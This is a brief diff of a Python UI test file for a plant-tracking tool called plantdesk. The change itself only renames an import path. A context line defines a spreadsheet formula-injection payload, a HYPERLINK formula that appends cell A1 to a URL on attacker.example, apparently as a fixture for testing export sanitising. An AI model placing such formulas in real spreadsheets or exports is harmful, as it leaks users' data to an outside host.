@@ -12,7 +12,7 @@ from plantdesk.desk.lists import ListMade
 from plantdesk.domain.plant import NewPlant
 from plantdesk.sheets.check_list import CheckLine, comma_separated, tabbed
 from tests.ui.conftest import Open
-from tests.ui.waiting.test_page import Shown, checks
+from tests.ui.plants.test_page import Shown, checks
 
 HEADS = ("Plant id", "Name", "Tag", "Store", "Sent at", "Reference")
 LINK = '=HYPERLINK("http://attacker.example/?"&A1,"Rosa")'
